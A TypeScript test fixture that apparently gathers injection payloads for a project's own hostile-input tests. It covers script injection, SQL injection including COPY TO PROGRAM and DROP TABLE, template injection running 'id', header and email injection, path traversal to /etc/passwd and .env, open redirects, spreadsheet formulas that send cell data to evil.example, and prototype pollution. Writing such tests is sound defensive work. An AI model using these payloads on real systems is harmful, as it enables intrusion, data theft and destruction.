// What an attacker types: by class, in our own collection. Those marked run in every test run, all of them by `npm run hostile`.

export const CLASSES = ['script', 'sql', 'template', 'header', 'path', 'redirect', 'formula', 'odd text', 'number'] as const;
export type Class = (typeof CLASSES)[number];

export interface Payload { of: Class; text: string; inEveryRun: boolean }

/** What a page would call if a payload ran; the tests lay it out in the browser. */
export const HIT = '__hit';
/** Seven times 7,191: a page that shows it has reckoned what was typed. */
export const RECKONED = '50337';
/** Long enough to be told from a busy machine; PostgreSQL gives up before it is over. */
const SLEEP = 'pg_sleep(20)';
const CALL = `${HIT}(1)`;

/** `*` opens those of every run: at least one of each way in. */
const written: Record<Class, readonly string[]> = {
  script: [
    `*<script>${CALL}</script>`, `*"><script>${CALL}</script>`, `*'"><img src=x onerror=${CALL}>`, `*</title></textarea></select><svg onload=${CALL}>`, `*" autofocus onfocus=${CALL} x="`, `*javascript:${CALL}`,
    `*<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`, `*--><script>${CALL}</script><!--`, `*&lt;script&gt;${CALL}&lt;/script&gt;`, `*%3Cscript%3E${CALL}%3C/script%3E`, `*{{constructor.constructor('${CALL}')()}}`,
    `*<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">`, `*<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
    `' onmouseover='${CALL}' y='`, `\\"-${CALL}-\\"`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`, `</script><script>${CALL}</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<ScRiPt\t>${CALL}</sCrIpT >`, `<script/x>${CALL}</script/y>`,
    `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<details open ontoggle=${CALL}><summary>x</summary></details>`, `<video><source onerror=${CALL}></video>`, `<input autofocus onfocus=${CALL}>`,
    `<body onload=${CALL}>`, `<a href="java&#10;script:${CALL}">x</a>`, `<a href=data:text/html,<script>${CALL}</script>>x</a>`, `<form action="javascript:${CALL}"><button>x</button></form>`, `<object data="javascript:${CALL}"></object>`,
    `<embed src="//evil.example/x.swf">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import '//evil.example/x.css';</style>`, `<img src="//evil.example/${HIT}.png">`, `<xss id=x tabindex=1 onfocus=${CALL}></xss>`,
    `＜script＞${CALL}＜/script＞`, `<\u0000script>${CALL}</script>`, `<img src=\`x\` onerror=\`${CALL}\`>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><script>${CALL}</script></template>`, `<![CDATA[<script>${CALL}</script>]]>`,
    `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`, `<input name="getElementById"><form id="location" name="${HIT}">`, `vbscript:${CALL}`, `[click](javascript:${CALL})`, `![x](x"onerror="${CALL})`, `<b onclick=${CALL}>x</b>`,
    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `"><x style="animation-name:rotation" onanimationstart=${CALL}>`, `%253Cscript%253E${CALL}%253C/script%253E`,
  ],
  sql: [
    `*' OR '1'='1`, `*' OR 1=1 -- `, `*'; SELECT ${SLEEP}; -- `, `*' || (SELECT ${SLEEP}) || '`, `*1) OR (1=1`, `*' UNION SELECT NULL, NULL, version() -- `, `*%' OR '%'='`, `*\\' OR 1=1 -- `, `*"; DROP TABLE people; -- `, `*? ?? :id $1 $$`,
    `1; SELECT ${SLEEP}`, `1 AND 1=(SELECT 1 FROM ${SLEEP})`, `' AND '1'='2`, `' AND '1'='1`, `'/**/OR/**/1=1/*`, `'; INSERT INTO people(name) VALUES ('x'); -- `, `'; UPDATE people SET is_administrator = true; -- `, `$tag$ OR 1=1 $tag$`, `E'\\047 OR 1=1`,
    `' OR pg_read_file('/etc/passwd') IS NOT NULL -- `, `'; COPY people TO PROGRAM 'id'; -- `, `CAST(version() AS int)`, `' || chr(65) || '`, `1::int; --`, `name; DROP TABLE x`, `created_at desc, (SELECT ${SLEEP})`, `' HAVING 1=1 -- `, `' ORDER BY 99 -- `,
    `{"a":"' OR 1=1"}`, `->>'x' = '' OR 1=1 --`, `_%_%_%`, `'''''''''''`, `\uff07 OR 1=1 --`, `\u02bc OR 1=1`, `' LIMIT 0 OFFSET 1 -- `, `' INTERSECT SELECT 1 -- `, `'; SET search_path = public; -- `, `'; COMMIT; -- `, `x' AND ${SLEEP} IS NULL AND 'x'='x`,
  ],
  template: [
    '*<%= 7*7191 %>', '*${7*7191}', '*{{7*7191}}', '*#{7*7191}', "*<%- process.mainModule.require('child_process').execSync('id') %>", '<%_ global.polluted = 1 _%>', '%>x<%= 7*7191', '@(7*7191)', '*{7*7191}', '[[7*7191]]', '{%print 7*7191%}', '<#assign x=7*7191>${x}', '`${7*7191}`',
    '{{= 7*7191 }}', '{{#with "s" as |string|}}{{/with}}', '$(id)', '`id`', '; id', '| id', '&& id', '%00', '<!--#exec cmd="id"-->', '(7*7191).toString()',
  ],
  header: [
    '*x\r\nX-Hit: 1', '*x\nBcc: evil@evil.example', '*x\r\n\r\n<p>another body', '*=?utf-8?q?x=0D=0ABcc:_evil@evil.example?=', '*x\u2028Bcc: evil@evil.example', 'x\rX-Hit: 1', 'x%0d%0aX-Hit: 1', 'x\u0085X-Hit: 1', 'x\u560d\u560aX-Hit: 1', 'x\r\n.\r\nMAIL FROM:<e@evil.example>', '"x" <evil@evil.example>',
    'a@b.example, evil@evil.example', 'group: evil@evil.example;', 'a@b.example(evil@evil.example)', 'x\u001b[2J\u001b[31m{"level":60}', 'x\r\nSet-Cookie: hit=1',
  ],
  path: [
    '*../../../../../../etc/passwd', '*..%2f..%2f..%2f..%2fetc%2fpasswd', '*..\\..\\..\\..\\windows\\win.ini', '*/etc/passwd\u0000.pdf', '*%252e%252e%252f%252e%252e%252fetc%252fpasswd', '....//....//....//etc/passwd', 'file:///etc/passwd', '\\\\evil.example\\share\\x', '..;/..;/etc/passwd', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '/proc/self/environ', 'package.json', '../package.json', '.git/config', '.env', 'CON', '~root', '..', '.', 'a/../../b', '%2e%2e', '..%5c..%5c', '..%00/',
  ],
  redirect: [
    '*//evil.example/', '*/\\evil.example/', '*https:evil.example', '*/%09/evil.example', '*https://localhost@evil.example/', '*javascript:location="//evil.example"', '///evil.example/', '/%5cevil.example', '/%2f/evil.example', '\t//evil.example', 'data:text/html,evil', 'http://evil.example#@localhost', '/..//evil.example', '/.\u2028/evil.example',
    'https://evil.example%00.localhost/', '//evil%E3%80%82example', 'https:/evil.example', '/redirect?to=//evil.example', '//localhost:80@evil.example', '\\/\\/evil.example', '/;@evil.example',
  ],
  formula: ['*=1+1', '*=HYPERLINK("https://evil.example/?"&A1,"x")', '*@SUM(1+1)*cmd|\' /C calc\'!A0', '*\t=1+1', '*＝1+1', '+1+1', '-1+1', '\r=1', '"=1+1"', ',=1+1', ';=1+1', '%0A=1', '=cmd|\' /C calc\'!A0', '|cmd', '\u00a0=1+1', "'=1+1"],
  'odd text': [
    '*\u0000', '*\ud800x', '*\u202egnp.exe\u202c', `*${'x'.repeat(10_000)}`, '*' + 'Z\u0351\u036b\u0343'.repeat(20), '*__proto__', '*constructor', '\udfff', '\ufeff', '\ufffe\uffff', '\u200b', '\u0001\u0007\u001b', '👩‍👩‍👧‍👦'.repeat(20), '𒐫', ' ', '\u3000', '\n\n\n', '\t', 'null', 'undefined', 'true', '[]', '{}', '[object Object]', 'toString', 'hasOwnProperty', 'İıſK',
    'x'.repeat(200_000), `${'a'.repeat(50)} `.repeat(2_000), `a@${'a'.repeat(240)}`, '('.repeat(3_000), '<'.repeat(3_000), '&'.repeat(3_000), '%'.repeat(100), '\\'.repeat(199), '١٢٣', '１２',
  ],
  number: ['*-1', '*1e309', '*NaN', '*99999999999999999999', '*2147483648', '*2026-02-31', '*00000000-0000-0000-0000-000000000000', '*31', '*0', '0x10', '1e3', '1,5', '-0', 'Infinity', '9007199254740993', '1/0', '0000-00-00', '2026-13-01', '99999-01-01', '12:99', '24:00', '25:61', 'not-a-uuid', '5f0c1a52-0000-4000-8000-00000000000g', '{5f0c1a52-0000-4000-8000-000000000000}', '5F0C1A52-0000-4000-8000-000000000000', ' 1', '1 ', '٣'],
};

export const payloads: readonly Payload[] = CLASSES.flatMap((of) => written[of].map((text) => ({ of, text: text.startsWith('*') && text.length > 1 ? text.slice(1) : text, inEveryRun: text.startsWith('*') })));

/** As an attacker's tool would vary each of the scripts: the place broken out of before it, what follows it, and how it is written. */
export function variantsOf(text: string): string[] {
  const before = ['', '"', "'", '">', "'>", '</textarea>', '</option></select>', '-->', ']]>', '\\"', '</style>', '</td></tr></table>'];
  const after = ['', '<!--', '//', '"'];
  const written = before.flatMap((opening) => after.map((ending) => opening + text + ending));
  return [...written, text.toUpperCase().replaceAll('__HIT', HIT), text.replaceAll('<', '&lt'), text.replaceAll('<', '\\x3c'), text.replaceAll(' ', '/'), text.replaceAll('=', '\u000c=')];
}

/** Names of parameters that have run code or changed every object in other programs: sent along on every address, they must change nothing. */
export const POLLUTING: readonly (readonly [name: string, value: string])[] = [
  ['__proto__[polluted]', '1'], ['__proto__.polluted', '1'], ['__proto__', '{"polluted":1}'], ['constructor[prototype][polluted]', '1'], ['constructor.prototype.polluted', '1'], ['prototype[polluted]', '1'], ['a[__proto__][polluted]', '1'], ['a[constructor][prototype][polluted]', '1'],
  ['settings[view options][escapeFunction]', `1;global.polluted=1`], ['settings[view options][client]', 'true'], ['settings[view options][outputFunctionName]', 'x;global.polluted=1;s'], ['settings[view cache]', '1'], ['escapeFn', `global.polluted=1`], ['escape', '1'], ['escapeFunction', '1'], ['outputFunctionName', 'x;global.polluted=1;x'],
  ['localsName', 'x=global.polluted=1'], ['destructuredLocals[]', 'x=global.polluted=1'], ['client', 'true'], ['cache', 'true'], ['filename', '/etc/passwd'], ['root', '/'], ['views', '/'], ['views[]', '/etc'], ['include', '/etc/passwd'], ['delimiter', '?'], ['openDelimiter', '{'], ['compileDebug', 'true'], ['debug', 'true'], ['async', 'true'], ['rmWhitespace', 'true'], ['strict', 'false'],
  ['_with', 'true'], ['context', '1'], ['__append', 'x'], ['__output', 'x'], ['layout', '/etc/passwd'], ['_locals[polluted]', '1'], ['locals', '1'], ['page', '__proto__'], ['ui', '1'], ['words', '1'], ['length', '99999999'], ['toString', '1'], ['hasOwnProperty', '1'], ['valueOf', '1'], ['', '1'], ['[]', '1'], ['a[0][1][2][3][4][5]', '1'],
];
